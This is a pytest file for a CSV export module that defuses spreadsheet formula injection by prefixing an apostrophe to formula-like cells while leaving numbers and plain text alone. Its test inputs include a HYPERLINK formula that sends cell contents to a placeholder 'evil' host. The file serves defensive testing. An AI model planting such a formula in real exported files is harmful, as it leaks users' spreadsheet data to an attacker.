"""What a spreadsheet would take for a formula is a text in every CSV file; numbers and raw tables stay."""

from __future__ import annotations

import io

import pyarrow as pa
import pyarrow.csv
import pytest

from borgtrace.engine.csv_text import csv_pieces, csv_text, neutral, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20A1",
    "-0x10",
    "+",
    "-1\n",
]
TEXTS = [
    "",
    "web-1",
    "a=b",
    "1",
    "-1",
    "+1.5",
    "-.5",
    "-1e-7",
    "+2E5",
    "-3.",
    "'=1+1",
    " =1",
    "ünï",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_an_apostrophe_goes_before_a_formula(text: str) -> None:
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", TEXTS)
def test_other_texts_stay(text: str) -> None:
    assert neutral(text) == text


def csv_bytes(table: pa.Table, *, raw: bool = False) -> bytes:
    return b"".join(csv_pieces(table, raw=raw))


def read(data: bytes) -> list[str | None]:
    """The column ``text`` as another program reads it."""
    options = pyarrow.csv.ParseOptions(newlines_in_values=True)
    convert = pyarrow.csv.ConvertOptions(
        column_types={"text": pa.string()}, strings_can_be_null=False
    )
    table = pyarrow.csv.read_csv(io.BytesIO(data), parse_options=options, convert_options=convert)
    values: list[str | None] = table["text"].to_pylist()
    return values


@pytest.mark.parametrize(
    "kind", [pa.string(), pa.large_string(), pa.dictionary(pa.int32(), pa.string())]
)
def test_columns_of_text_are_neutral_as_their_cells_are(kind: pa.DataType) -> None:
    texts = [*FORMULAS, *TEXTS]
    table = pa.table({"text": pa.array(texts, pa.string()).cast(kind), "n": [-1.5] * len(texts)})
    assert read(csv_bytes(table)) == [neutral(text) for text in texts]
    assert read(csv_bytes(table, raw=True)) == texts
    assert csv_bytes(table).count(b",-1.5\n") == len(texts)


def test_headings_and_lists_are_neutral() -> None:
    table = pa.table({"=1+1": [["=2"], None]})
    assert csv_bytes(table) == b'"\'=1+1"\n"[""=2""]"\n\n'
    assert csv_bytes(table, raw=True) == b'"=1+1"\n"[""=2""]"\n\n'


def test_batches_have_one_heading() -> None:
    table = pa.concat_tables([pa.table({"text": ["=1"]}), pa.table({"text": ["b"]})])
    out = io.BytesIO()
    write_csv(table.to_reader(), out)
    assert out.getvalue() == b'"text"\n"\'=1"\n"b"\n'


def test_rows_of_python() -> None:
    rows = [["task", "machine"], ["=1+1", -1], ["-2", None]]
    assert csv_text(rows) == "task,machine\n'=1+1,-1\n-2,\n"
    assert csv_text(rows, raw=True) == "task,machine\n=1+1,-1\n-2,\n"
